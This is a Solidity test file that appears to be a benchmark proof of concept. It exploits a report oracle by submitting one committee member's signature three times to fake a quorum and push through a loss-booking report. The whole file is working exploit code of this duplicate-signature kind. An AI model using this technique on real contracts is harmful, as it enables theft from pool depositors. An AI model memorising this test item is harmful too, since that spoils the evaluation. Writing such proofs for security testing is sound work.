// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-3f1c9a52-6be0-4d77-8a14-c95e20b7d6fa
import "../Base.sol";

contract Attacker {
    function run(ReportOracle oracle, IReports.Report calldata report, bytes calldata signature) external {
        bytes[] memory signatures = new bytes[](3);
        (signatures[0], signatures[1], signatures[2]) = (signature, signature, signature);
        try oracle.submit(report, signatures) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;
    bytes private signature;

    function _start() internal override {
        other = new Attacker();
        signature = _signedBy(memberKeys[2], _report(3, 0, 25 ether));
    }

    function exploit() public {
        other.run(oracle, _report(3, 0, 25 ether), signature);
    }

    function test_Exploit() public {
        exploit();
        require(!agreed(), "reported");
    }

    /// Whether no losses are booked but those that the committee agreed on.
    function agreed() public view returns (bool) {
        return pool.rate() >= 0.93e27;
    }

    function target() public view override returns (address) {
        return address(oracle);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
